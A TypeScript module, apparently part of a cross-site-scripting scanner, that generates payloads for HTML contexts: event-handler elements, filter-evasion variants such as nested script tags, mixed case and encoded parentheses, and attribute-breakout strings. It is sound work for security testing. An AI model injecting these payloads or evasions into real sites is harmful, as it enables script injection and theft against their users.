import type { HtmlPlace } from '../../../read/html/htmlPlaces.ts'
import { callMarker, contextOf, endOf, type XssPayload } from './_xssPayloads.ts'

type Part = readonly [runs: XssPayload['runs'], write: (call: string) => string]

const elements: readonly Part[] = [
  ['itself', (call) => `<svg onload=${call}>`],
  ['itself', (call) => `<details open ontoggle=${call}>`],
  ['itself', (call) => `<video src onerror=${call}></video>`],
  ['itself', (call) => `<input autofocus onfocus=${call}>`],
  ['event', (call) => `<body onload=${call}>`],
  ['event', (call) => `<marquee onstart=${call}></marquee>`],
  ['event', (call) => `<object onerror=${call}></object>`],
  ['event', (call) => `<math onpointerenter=${call}>m</math>`],
  ['event', (call) => `<x-y autofocus tabindex=1 onfocus=${call}>x</x-y>`],
  ['event', (call) => `<b autofocus tabindex=1 onfocus=${call}>b</b>`],
  ['event', (call) => `<a onclick=${call}>a</a>`],
  ['event', (call) => `<x-y onmouseover=${call}>x</x-y>`],
  ['event', (call) => `<x-y onanimationstart=${call}>x</x-y>`],
  ['event', (call) => `<svg><animate onbegin=${call} attributeName=x dur=1s></svg>`],
  ['itself', (call) => `<iframe onload=${call}></iframe>`],
]

/** Filter evasions: other separators, mixed case, nested or unclosed tags. */
const forms: readonly Part[] = [
  ['itself', (call) => `<svg/onload=${call}>`],
  ['itself', (call) => `<sVg oNlOaD=${call}>`],
  ['itself', (call) => `<svg\fonload\n=${call}>`],
  ['itself', (call) => `<svg onload="${call}">`],
  ['itself', (call) => `<im<img>g src onerror=${call}>`],
  ['itself', (call) => `<i<b>mg src onerror=${call}>`],
  ['itself', (call) => `<svg ononloadload=${call}>`],
  ['itself', (call) => `<scr<script>ipt>${call}</scr</script>ipt>`],
  ['itself', (call) => `<svg onload=${call.replace('(', '&lpar;').replace(')', '&rpar;')}>`],
  ['itself', (call) => `<script>${call}</script>`],
  ['click', (call) => `<a href=javascript:${call}>a</a>`],
  ['itself', (call) => `<img src onerror=${call} //`],
]

const handlers: readonly string[] = [
  'onfocus',
  'onpointerenter',
  'onmouseover',
  'onclick',
  'onload',
  'onerror',
  'ontoggle',
  'onanimationstart',
  'onbeforetoggle',
]

/** Lists evasions for a context in which `<` or a quote survived. The last proves markup only. */
export function listEvasions(place: HtmlPlace): readonly XssPayload[] {
  const context = contextOf(place)
  const end = endOf(place)
  const outside: readonly XssPayload[] = [
    // Browsers drop elements inside `select`.
    ...(end === '' ? [together(context, '</select></svg></math>', elements.slice(0, 1), 2)] : []),
    together(context, end, elements, 2),
    together(context, end, forms, 2 + elements.length),
    { context, write: (word) => `${end}<b on${word}=1>`, runs: 'nothing' },
  ]
  return place.kind === 'attribute' && place.quote !== ''
    ? [...outside.slice(0, 2), handlersIn(place.quote, context), ...outside.slice(2)]
    : outside
}

function together(context: string, end: string, parts: readonly Part[], from: number): XssPayload {
  const numbered = parts.map(([runs, write], index): readonly [string, XssPayload] => {
    const number = String(from + index)
    return [number, { context, runs, write: (word) => `${end}${write(callMarker(word, number))}` }]
  })
  return {
    context,
    runs: 'event',
    write: (word) =>
      `${end}${parts.map(([, write], index) => write(callMarker(word, String(from + index)))).join(' ')}`,
    parts: Object.fromEntries(numbered),
  }
}

export function splitByElement({ context, parts = {} }: XssPayload): readonly XssPayload[] {
  const groups = new Map<string, [string, XssPayload][]>()
  for (const [number, part] of Object.entries(parts)) {
    const [, element = ''] = /<([a-z][\w-]*)/i.exec(part.write('x')) ?? []
    const family = /^(?:a|b)$|-/i.test(element)
      ? 'text'
      : /^(?:svg|math)$/i.test(element)
        ? 'drawing'
        : 'media'
    groups.set(family, [...(groups.get(family) ?? []), [number, part]])
  }
  if (groups.size < 2) return []
  return [...groups.values()].map((own) => ({
    ...{ context, runs: 'event', parts: Object.fromEntries(own) },
    write: (word) => own.map(([, part]) => part.write(word)).join(' '),
  }))
}

function handlersIn(quote: string, context: string): XssPayload {
  const of = (names: readonly string[], word: string) =>
    `${quote}${names.map((name) => `/${name}=${quote}${callMarker(word, numberOf(name))}${quote}`).join('')}/x=${quote}`
  return {
    context,
    runs: 'event',
    write: (word) => of(handlers, word),
    parts: Object.fromEntries(
      handlers.map((name) => [
        numberOf(name),
        { context, runs: 'event' as const, write: (word: string) => of([name], word) },
      ]),
    ),
  }
}

function numberOf(name: string): string {
  return String(50 + handlers.indexOf(name))
}
